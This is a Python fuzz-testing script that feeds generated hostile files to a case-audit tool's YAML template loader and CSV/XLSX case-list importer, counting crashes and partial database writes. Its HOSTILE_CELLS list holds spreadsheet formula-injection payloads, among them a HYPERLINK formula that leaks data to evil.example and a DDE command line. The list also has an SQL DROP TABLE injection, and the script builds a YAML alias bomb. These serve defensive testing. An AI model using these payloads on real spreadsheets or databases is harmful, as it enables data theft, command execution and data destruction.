"""Fuzz campaign: hostile inputs into the template loader and the case-list importer.

Each target gets 1,000 generated inputs (``CASEAUDIT_FUZZ_INPUTS`` to change it), from a fixed
seed so a run can be repeated: random bytes and text, real files cut short or with bytes flipped,
values of the wrong type, huge fields, deep nesting, formula-like cells. An input may be accepted
or refused with a ``CaseAuditError``; anything else is a crash. For the importer, an input that
was refused (or cancelled, or failed in any way) must leave the database exactly as it was;
otherwise it counts as a partial import. Figures: ``fuzz_inputs``, ``fuzz_crashes``,
``partial_imports`` (goals 0), with the first crashes named on stderr.

A new target is one function returning a ``Target`` (see ``template_target``), listed in
``TARGETS``.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import random
import sys
import tempfile
from collections.abc import Callable, Iterable
from pathlib import Path

import yaml

from caseaudit.errors import CaseAuditError
from caseaudit.paths import builtin_templates_dir

INPUTS = int(os.environ.get("CASEAUDIT_FUZZ_INPUTS", "1000"))
SEED = 2011
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=1+2",
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\x00",
    "\u202eevil",
    "'; DROP TABLE child; --",
    "x" * 100_000,
    "31/02/2011",
    "2011-13-45",
    "99999999999999999999",
    "NaN",
    "",
]


class Target:
    """Something to fuzz: how to make an input, how to feed it, and how to spot a partial write.

    (Plain classes, not dataclasses: ``bench/run.py`` loads this file without registering it
    in ``sys.modules``, which dataclasses need.)
    """

    def __init__(
        self,
        name: str,
        make: Callable[[random.Random], tuple[bytes, str]],  # (content, file suffix)
        feed: Callable[[Path], None],
        state: Callable[[], str] | None = None,  # a digest of everything the target may write
    ) -> None:
        self.name, self.make, self.feed, self.state = name, make, feed, state


def _mutate_tree(rng: random.Random, tree: object) -> object:
    places = []
    stack = [tree]
    while stack:
        node = stack.pop()
        for key, child in list(node.items() if isinstance(node, dict) else enumerate(node)):
            places.append((node, key))
            if isinstance(child, dict | list):
                stack.append(child)
    wrong = [None, True, 0, -1, 10**40, 1.5, float("nan"), "", "x" * 50, [], {}, [[[]]], {"a": {}}]
    for _ in range(rng.randint(1, 4)):
        container, key = rng.choice(places)
        container[key] = rng.choice(wrong)
    return tree


def _flip(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 12)):
        if out:
            out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


def template_inputs() -> Callable[[random.Random], tuple[bytes, str]]:
    sources = [p.read_bytes() for p in sorted(builtin_templates_dir().glob("*.yaml"))]

    def make(rng: random.Random) -> tuple[bytes, str]:
        base = rng.choice(sources)
        kind = rng.randrange(8)
        if kind == 0:
            return rng.randbytes(rng.randrange(4000)), ".yaml"
        if kind == 1:
            chars = [chr(rng.randrange(1, 0x2FFF)) for _ in range(rng.randrange(2000))]
            return "".join(chars).encode("utf-8", "replace"), ".yaml"
        if kind == 2:
            return base[: rng.randrange(len(base))], ".yaml"
        if kind == 3:
            return _flip(rng, base), ".yaml"
        if kind == 4:
            tree = _mutate_tree(rng, yaml.safe_load(base))
            return yaml.safe_dump(tree, allow_unicode=True).encode(), ".yaml"
        if kind == 5:
            tree = yaml.safe_load(base)
            tree["title"] = "x" * rng.choice([10_000, 1_000_000])
            tree["sections"] = tree["sections"] * rng.choice([1, 50])
            return yaml.safe_dump(tree, width=1 << 30).encode(), ".yaml"
        if kind == 6:
            depth = rng.choice([50, 500, 5000])
            return ("title: " + "[" * depth + "]" * depth).encode(), ".yaml"
        bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n"
            for i in range(8)
        )
        return (bomb + "sections: *i\n").encode(), ".yaml"

    return make


def template_target(_workdir: Path) -> Target | None:
    from caseaudit.templating import load_template_file

    return Target("templates", template_inputs(), lambda path: load_template_file(path))


HEADERS = ["Person ID", "Forename", "Surname", "DOB", "Plan Type", "Plan Start Date", "Team Name",
           "Allocated Worker"]  # fmt: skip


def _good_rows(rng: random.Random, count: int) -> list[list[object]]:
    return [
        [f"P{rng.randrange(10**6):06d}", "Ada", "Testperson", "02/03/2009",
         rng.choice(["CIN", "CP"]), "01/04/2024", "Team A", "Sam Worker"]
        for _ in range(count)
    ]  # fmt: skip


def _csv(rows: Iterable[list[object]], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue()


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    sheet = book.active
    for row in rows:  # a workbook cannot hold control characters at all
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def importer_inputs(rng: random.Random) -> tuple[bytes, str]:
    rows = [HEADERS, *_good_rows(rng, rng.randint(1, 20))]
    kind = rng.randrange(8)
    if kind == 0:
        return rng.randbytes(rng.randrange(3000)), rng.choice([".csv", ".xlsx"])
    if kind in (1, 2):
        for row in rows[1:]:
            for _ in range(rng.randint(1, 3)):
                row[rng.randrange(len(row))] = rng.choice(HOSTILE_CELLS)
        if kind == 2:
            return _xlsx(rows), ".xlsx"
        return _csv(rows, rng.choice([",", ";", "\t", "|"])).encode(), ".csv"
    if kind == 3:
        data = _csv(rows).encode()
        return data[: rng.randrange(len(data))], ".csv"
    if kind == 4:
        return _flip(rng, _xlsx(rows)), ".xlsx"
    if kind == 5:
        data = _xlsx(rows)
        return data[: rng.randrange(len(data))], ".xlsx"
    if kind == 6:
        wrong = [None, 0, -1, 3.5, True, 10**30, "", "\ufeff"]
        mixed = [[rng.choice(wrong) if rng.random() < 0.4 else v for v in r] for r in rows[1:]]
        return _xlsx([HEADERS, *mixed]), ".xlsx"
    text = _csv(rows if rng.random() < 0.5 else [HEADERS * 300, *rows[1:]])
    encoding = rng.choice(["utf-16-le", "utf-16", "latin-1", "utf-8-sig", "cp1252"])
    return text.replace("Ada", "Zoë").encode(encoding, "replace"), ".csv"


def importer_target(workdir: Path) -> Target | None:
    """The case-list importer on a real SQLite file, strict and lenient in turn."""
    try:
        from caseaudit.services.importer import import_file
    except ImportError:
        return None
    from sqlalchemy import inspect, text

    from caseaudit.db import open_database
    from caseaudit.services.accounts import create_first_administrator

    db = open_database(workdir / "import-fuzz.sqlite")
    admin = create_first_administrator(db, "fuzz.admin", "", "fuzz password")
    turn = [0]

    def feed(path: Path) -> None:
        turn[0] += 1
        import_file(db, admin, path, "cin-cp", strict=turn[0] % 2 == 0)

    def state() -> str:
        digest = hashlib.sha256()
        with db.engine.connect() as conn:
            for table in sorted(inspect(conn).get_table_names()):
                for row in conn.execute(text(f'SELECT * FROM "{table}" ORDER BY 1')):
                    digest.update(repr(tuple(row)).encode())
        return digest.hexdigest()

    return Target("importer", importer_inputs, feed, state)


TARGETS: list[Callable[[Path], Target | None]] = [template_target, importer_target]


class Campaign:
    def __init__(self) -> None:
        self.inputs = self.crashes = self.partial = self.refused = 0
        self.kinds: dict[str, int] = {}


def fuzz(target: Target, count: int, workdir: Path, campaign: Campaign) -> None:
    rng = random.Random(f"{SEED}-{target.name}")
    for number in range(count):
        data, suffix = target.make(rng)
        path = workdir / f"input-{number}{suffix}"
        path.write_bytes(data)
        before = target.state() if target.state else None
        campaign.inputs += 1
        failed = True
        try:
            target.feed(path)
            failed = False
        except CaseAuditError:
            campaign.refused += 1
        except Exception as exc:  # noqa: BLE001 - this is what the campaign counts
            campaign.crashes += 1
            kind = f"{target.name}: {type(exc).__name__}"
            campaign.kinds[kind] = campaign.kinds.get(kind, 0) + 1
            if campaign.crashes <= 5:
                print(f"{target.name} crash on input {number}: {exc!r:.200}", file=sys.stderr)
        if failed and before is not None and target.state() != before:
            campaign.partial += 1
        path.unlink()


def run() -> Iterable[tuple[str, float, str]]:
    campaign = Campaign()
    with tempfile.TemporaryDirectory() as folder:
        for make_target in TARGETS:
            target = make_target(Path(folder))
            if target is None:
                print(f"{make_target.__name__}: not available yet, skipped", file=sys.stderr)
                continue
            fuzz(target, INPUTS, Path(folder), campaign)
    for kind, count in sorted(campaign.kinds.items()):
        print(f"crashes by kind: {kind} x {count}", file=sys.stderr)
    print(f"refused clearly: {campaign.refused} of {campaign.inputs}", file=sys.stderr)
    yield "fuzz_inputs", campaign.inputs, "inputs"
    yield "fuzz_crashes", campaign.crashes, "crashes"
    yield "partial_imports", campaign.partial, "imports"


if __name__ == "__main__":
    for name, value, unit in run():
        print(f"{name}: {value} {unit}")
